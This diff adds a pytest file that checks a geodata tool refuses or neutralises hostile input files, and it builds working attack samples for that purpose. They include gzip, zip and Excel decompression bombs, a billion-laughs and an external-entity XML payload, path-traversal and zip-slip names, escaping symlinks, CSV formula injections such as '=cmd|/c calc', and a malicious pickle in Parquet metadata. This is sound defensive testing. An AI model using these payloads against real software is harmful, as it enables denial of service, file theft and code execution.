@@ -1,0 +1,314 @@
+"""Files made to do harm: each is refused in one sentence, or what is in it stays text."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from test_bad_input import edit, state
+
+from hubmap.cli import main
+from hubmap.errors import HubmapError, RecipeError, TableError
+from hubmap.geodata.read import Manner, read_rows
+
+LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
+    + "".join(
+        f'<!ENTITY {b} "{f"&{a};" * 10}">'
+        for a, b in zip("abcdefghijk", "bcdefghijkl", strict=True)
+    )
+    + "]>"
+)
+
+
+def refused(path: Path, **manner: str) -> str:
+    with pytest.raises(TableError) as error:
+        read_rows(path.parent, path.name, Manner(**manner))  # type: ignore[arg-type]
+    assert str(path) in str(error.value)
+    return str(error.value)
+
+
+@pytest.fixture(scope="module")
+def zeros() -> bytes:
+    """300 MB of zeros, packed."""
+    out = io.BytesIO()
+    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6, mtime=0) as file:
+        for _ in range(300):
+            file.write(bytes(1 << 20))
+    return out.getvalue()
+
+
+def test_gzip_bomb(tmp_path: Path, zeros: bytes) -> None:
+    path = tmp_path / "a.csv.gz"
+    path.write_bytes(zeros)
+    assert "far beyond its size" in refused(path)
+
+
+def test_zip_bomb(tmp_path: Path) -> None:
+    path = tmp_path / "a.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("a.csv", bytes(100 << 20))
+    assert "far beyond its size" in refused(path)
+
+
+def test_zip_in_a_zip_is_not_opened(tmp_path: Path) -> None:
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as archive:
+        archive.writestr("a.csv", "id,name\n1,One\n")
+    path = tmp_path / "a.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("b.zip", inner.getvalue())
+    assert "holds no table" in refused(path)
+
+
+def test_excel_bomb(tmp_path: Path) -> None:
+    pytest.importorskip("openpyxl")
+    path = tmp_path / "a.xlsx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (100 << 20))
+    assert "unpacks to more than 64 MB" in refused(path)
+
+
+@pytest.mark.parametrize("content", ["[" * 200_000, '{"a":' * 200_000, '[{"a":' * 100_000])
+@pytest.mark.parametrize("suffix", ["json", "jsonl", "geojson"])
+def test_deep_json(content: str, suffix: str, tmp_path: Path) -> None:
+    path = tmp_path / f"a.{suffix}"
+    path.write_text(content)
+    if suffix == "jsonl":
+        rows = read_rows(tmp_path, path.name, Manner())
+        assert [one.line for _, one in rows.unread] == [1]
+    else:
+        refused(path)
+
+
+def test_deep_outlines_recipes_and_ledgers(small: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from hubmap.ledger import Ledger
+    from hubmap.recipes import read_toml
+
+    (small / "geodata/regions.geojson").write_text("[" * 200_000)
+    assert main(["-C", str(small), "build"]) == 1
+    assert "not readable GeoJSON" in capsys.readouterr().err
+    deep = small / "layers/ledger.json"
+    deep.write_text("[" * 200_000)
+    assert not Ledger(deep).fresh("a", "b", [])
+    recipe = small / "maps/deep.toml"
+    recipe.write_text("a = " + "[" * 100_000)
+    with pytest.raises(RecipeError, match="not valid TOML"):
+        read_toml(recipe)
+
+
+@pytest.mark.parametrize(
+    "name", ["../firms.csv", "/etc/passwd", "..", ".", "", "a/../../b.csv", "C:\\a.csv", "\\\\h\\a",
+             ".hidden.csv", "http://example.org/a.csv", "/vsicurl/http://example.org/a.gpkg"],
+)  # fmt: skip
+def test_a_recipe_names_no_file_elsewhere(
+    name: str, small: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    edit("geodata/firms.toml", '"firms.csv"', json.dumps(name))(small)
+    assert main(["-C", str(small), "build"]) == 1
+    assert "name a file beside the recipe, without a folder" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("verb", ["build", "layers", "verify", "stats"])
+def test_no_verb_takes_a_path_for_a_name(
+    verb: str, small: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    before = state(small.parent)
+    assert main(["-C", str(small), verb, "../../etc/passwd"]) == 1
+    assert "there is no" in capsys.readouterr().err
+    assert state(small.parent) == before
+
+
+def test_members_of_an_archive_stay_inside(tmp_path: Path) -> None:
+    inside = tmp_path / "inside"
+    inside.mkdir()
+    for number, name in enumerate(["../../evil.csv", "/tmp/evil.csv", "x\\evil.csv"]):
+        path = inside / f"{number}.zip"
+        with zipfile.ZipFile(path, "w") as archive:
+            archive.writestr(name, "id,name\n1,One\n")
+        before = sorted(tmp_path.rglob("*"))
+        assert list(read_rows(inside, path.name, Manner()).cells["name"]) == ["One"]
+        assert sorted(tmp_path.rglob("*")) == before
+    assert not Path("/tmp/evil.csv").exists()
+
+
+needs_links = pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege")
+
+
+@needs_links
+@pytest.mark.parametrize("name", ["geodata/firms.csv", "geodata/regions.geojson", "maps/out.toml"])
+def test_a_link_out_is_not_read(
+    name: str, small: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    secret = tmp_path / "secret"
+    secret.write_text("root:x:0:0")
+    (small / name).unlink(missing_ok=True)
+    (small / name).symlink_to(secret)
+    assert main(["-C", str(small), "build"]) == 1
+    said = capsys.readouterr().err
+    assert "is a link that leads out of the workspace" in said
+    assert "root:x" not in said
+
+
+@needs_links
+def test_a_link_inside_is_read(small: Path) -> None:
+    (small / "geodata/firms.csv").rename(small / "geodata/real.csv")
+    (small / "geodata/firms.csv").symlink_to("real.csv")
+    assert main(["-C", str(small), "build"]) == 0
+
+
+@needs_links
+@pytest.mark.parametrize("name", ["maps", "layers/example-city"])
+def test_nothing_is_written_through_a_link(
+    name: str, small: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / ".mine.part").write_text("not a leftover of ours")
+    for recipe in (small / "maps").glob("*.toml") if name == "maps" else ():
+        recipe.rename(outside / recipe.name)
+    if (small / name).exists():
+        (small / name).rmdir()
+    (small / name).symlink_to(outside)
+    before = state(outside)
+    assert main(["-C", str(small), "build"]) == 1
+    assert "is a link that leads out of the workspace" in capsys.readouterr().err
+    assert state(outside) == before
+
+
+@needs_links
+def test_a_product_that_is_a_link_is_replaced_not_followed(small: Path, tmp_path: Path) -> None:
+    precious = tmp_path / "precious"
+    precious.write_text("mine")
+    (small / "maps/example-city.html").symlink_to(precious)
+    assert main(["-C", str(small), "build"]) == 0
+    assert precious.read_text() == "mine"
+    assert not (small / "maps/example-city.html").is_symlink()
+
+
+FORMULA = '=HYPERLINK("http://x"&A1)'
+
+
+def test_formulas_in_csv_products_are_text(small: Path) -> None:
+    import csv
+
+    names = [FORMULA, "@SUM(1)", "+1", "-1+1"]
+    rows = "".join(f'{9 + n},"{v}",10.0{n + 1},50.05,2012\n'.replace('="', "=")
+                   if n else f'9,"{v.replace(chr(34), chr(34) * 2)}",10.01,50.05,2012\n'
+                   for n, v in enumerate(names))  # fmt: skip
+    table = small / "geodata/firms.csv"
+    table.write_text(table.read_text() + rows + f'20,"{names[1]}",nowhere,50.05,2012\n')
+    edit("geodata/firms.toml", "precision_m = 100", 'precision_m = 100\nfaults = "reject"')(small)
+    edit("geodata/regions.csv", "X101,North District", 'X101,"=cmd|/c calc"')(small)
+    assert main(["-C", str(small), "build"]) == 0
+    assert main(["-C", str(small), "layers", "--format", "csv"]) == 0
+    found = 0
+    for path in (small / "layers").rglob("*.csv"):
+        with path.open(newline="", encoding="utf-8") as file:
+            for row in csv.reader(file):
+                for cell in row:
+                    try:
+                        float(cell)
+                    except ValueError:
+                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
+                    found += cell.startswith("'")
+    assert found >= 6
+
+
+def test_a_pickle_in_parquet_is_not_loaded(tmp_path: Path) -> None:
+    import pickle
+
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    canary = tmp_path / "canary"
+
+    class Evil:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return os.mkdir, (str(canary),)
+
+    code = pickle.dumps(Evil())
+    extension = {
+        b"ARROW:extension:name": b"arrow.py_extension_type",
+        b"ARROW:extension:metadata": code,
+    }
+    schema = pa.schema(
+        [pa.field("id", pa.string(), metadata=extension), pa.field("name", pa.string())],
+        metadata={b"pandas": code, b"geo": b"", b"hubmap": code},
+    )
+    path = tmp_path / "a.parquet"
+    pq.write_table(pa.table([["1"], ["One"]], schema=schema), path)
+    try:
+        assert list(read_rows(tmp_path, path.name, Manner()).cells["name"]) == ["One"]
+    except HubmapError as error:
+        assert str(path) in str(error)  # noqa: PT017
+    assert not canary.exists()
+    (tmp_path / "a.pkl").write_bytes(code)
+    assert "are not read" in refused(tmp_path / "a.pkl")
+    assert not canary.exists()
+
+
+@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
+@pytest.mark.parametrize("kind", ["laughs", "external"])
+def test_entities_in_excel(member: str, kind: str, tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    secret = tmp_path / "secret"
+    secret.write_text("root:x")
+    book = openpyxl.Workbook()
+    book.active.append(["id", "name"])
+    book.active.append(["1", "NAME"])
+    good = tmp_path / "good.xlsx"
+    book.save(good)
+    head = LAUGHS
+    entity = "&l;"
+    if kind == "external":
+        head = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
+        entity = "&x;"
+    path = tmp_path / "a.xlsx"
+    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
+        for name in source.namelist():
+            content = source.read(name).decode()
+            if name in (member, "xl/sharedStrings.xml"):
+                body = content.split("?>", 1)[-1] if content.startswith("<?xml") else content
+                content = head + body.replace("NAME", entity).replace('"Sheet"', f'"{entity}"')
+            target.writestr(name, content)
+    try:
+        cells = read_rows(tmp_path, path.name, Manner()).cells
+    except HubmapError as error:
+        assert str(path) in str(error)  # noqa: PT017
+    else:
+        assert "root:x" not in cells.to_csv()
+        assert cells.to_csv().count("ha") < 100
+
+
+def test_kml_is_not_read(tmp_path: Path) -> None:
+    path = tmp_path / "a.kml"
+    path.write_text(LAUGHS + "<kml>&l;</kml>")
+    assert "tables of type `.kml` are not read" in refused(path)
+
+
+VRT = (
+    '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource>'
+    "</OGRVRTLayer></OGRVRTDataSource>"
+)
+
+
+@pytest.mark.parametrize("suffix", ["geojson", "gpkg", "fgb", "shp", "pbf"])
+@pytest.mark.parametrize("content", ["vrt", "kml"])
+def test_a_file_that_names_other_files_is_not_opened(
+    suffix: str, content: str, tmp_path: Path
+) -> None:
+    """GDAL goes by the content, and a virtual data set in it could read any file or address."""
+    secret = tmp_path / "secret.csv"
+    secret.write_text("id,name\n1,root:x\n")
+    path = tmp_path / f"a.{suffix}"
+    path.write_text(
+        VRT.format(secret=secret) if content == "vrt" else LAUGHS + "<kml><name>&l;</name></kml>"
+    )
+    assert "is no `" in refused(path)
